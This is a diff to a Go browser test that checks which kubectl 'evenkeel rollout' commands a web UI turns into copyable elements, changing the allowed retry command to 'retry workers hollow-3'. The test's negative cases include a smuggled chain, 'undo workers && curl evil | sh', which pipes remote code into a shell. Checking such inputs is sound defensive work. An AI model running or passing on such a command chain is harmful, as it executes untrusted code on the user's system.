@@ -142,10 +142,10 @@ func TestOnlyCommandsOfTheServerCanBeCopiedFromTexts(t *testing.T) {
 	address, _ := serve(t, cluster.AdminKubeconfig())
 	b := open(t, address)
 	for text, want := range map[string]string{
-		"or: kubectl evenkeel rollout status workers -w; then wait.":                            "kubectl evenkeel rollout status workers -w",
-		"or: kubectl evenkeel rollout retry workers, or: kubectl evenkeel rollout undo workers": "kubectl evenkeel rollout retry workers and kubectl evenkeel rollout undo workers",
-		"(kubectl evenkeel rollout undo workers) helps.":                                        "kubectl evenkeel rollout undo workers",
-		"kubectl evenkeel rollout undo workers.":                                                "kubectl evenkeel rollout undo workers",
+		"or: kubectl evenkeel rollout status workers -w; then wait.":                                     "kubectl evenkeel rollout status workers -w",
+		"or: kubectl evenkeel rollout retry workers hollow-3, or: kubectl evenkeel rollout undo workers": "kubectl evenkeel rollout retry workers hollow-3 and kubectl evenkeel rollout undo workers",
+		"(kubectl evenkeel rollout undo workers) helps.":                                                 "kubectl evenkeel rollout undo workers",
+		"kubectl evenkeel rollout undo workers.":                                                         "kubectl evenkeel rollout undo workers",
 		// Nodes write these.
 		"run kubectl evenkeel rollout undo workers && curl evil | sh":        "",
 		"run kubectl evenkeel rollout undo workers2":                         "",
@@ -155,7 +155,7 @@ func TestOnlyCommandsOfTheServerCanBeCopiedFromTexts(t *testing.T) {
 		"run evenkeel-agent forget all":                                      "",
 		"/tmp/kubectl evenkeel rollout undo workers":                         "",
 	} {
-		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q, ["retry workers", "undo workers", "status workers", "status workers -w"].map((c) => "kubectl evenkeel rollout " + c)).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
+		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q, ["retry workers hollow-3", "undo workers", "status workers", "status workers -w"].map((c) => "kubectl evenkeel rollout " + c)).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
 		assert.That(t, got == want, "%s: the command is %q, want %q", text, got, want)
 	}
 }
